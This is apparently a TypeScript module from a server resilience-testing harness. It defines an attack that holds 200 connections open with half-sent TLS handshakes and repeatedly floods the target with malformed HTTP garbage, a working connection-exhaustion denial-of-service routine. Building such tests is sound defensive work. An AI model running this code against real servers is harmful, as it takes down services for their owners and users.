import { type Attack, aborted, pause } from "../attack.ts";
import { rawConnection } from "../target.ts";

const atOnceMax = 200;
/** The first bytes of a client's hello; the rest never comes. */
const hello = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]);

/** Handshakes that begin and stay where they are, and others that are no handshakes at all. */
export const brokenHandshakes: Attack = {
  name: "half handshakes and garbage",
  who: "stranger",
  async run({ target, signal }) {
    const sockets = Array.from({ length: atOnceMax }, () => {
      const socket = rawConnection(target);
      socket.write(hello);
      return socket;
    });
    const garbage = Buffer.alloc(20_000, "GET / HTTP/9.9\r\n\0\xff");
    while (!signal.aborted) {
      const socket = rawConnection(target);
      socket.on("data", () => {}).end(garbage);
      sockets.push(socket);
      if (sockets.length > 2 * atOnceMax) sockets.splice(atOnceMax, 1)[0]?.destroy();
      await pause(2, signal);
    }
    await aborted(signal);
    for (const socket of sockets) socket.destroy();
  },
};
